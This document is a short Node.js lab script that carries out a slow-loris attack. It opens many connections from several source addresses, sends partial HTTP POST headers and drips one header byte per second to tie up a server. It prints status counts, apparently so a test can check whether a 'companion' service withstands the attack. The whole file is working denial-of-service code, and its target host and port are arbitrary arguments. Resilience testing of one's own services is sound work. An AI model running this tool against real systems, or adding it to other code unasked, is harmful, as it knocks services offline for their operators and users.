// Lab tool: holds many half-sent HTTP requests open against a companion (slow-loris), one header byte at a time.
// Usage: node slow-loris.mjs '<json>'  with {host, port, sources:[addr…], perSource}
// Prints `ready <opened>` once every socket connected, then `status <open> <closedByServer>` every second.
import net from 'node:net';

const spec = JSON.parse(process.argv[2] ?? '{}');
let open = 0;
let closedByServer = 0;
let connected = 0;
const total = spec.sources.length * spec.perSource;
const sockets = [];
for (const localAddress of spec.sources) {
  for (let i = 0; i < spec.perSource; i++) {
    const s = net.connect({ host: spec.host, port: spec.port, localAddress });
    sockets.push(s);
    s.on('connect', () => {
      open++;
      connected++;
      s.write('POST /v1/check HTTP/1.1\r\nHost: companion\r\n');
      if (connected === total) process.stdout.write(`ready ${connected}\n`);
    });
    s.on('close', () => {
      if (s.connecting === false) {
        open--;
        closedByServer++;
      }
    });
    s.on('error', () => undefined);
  }
}
setInterval(() => {
  for (const s of sockets) if (!s.destroyed) s.write('X');
  process.stdout.write(`status ${open} ${closedByServer}\n`);
}, 1000);
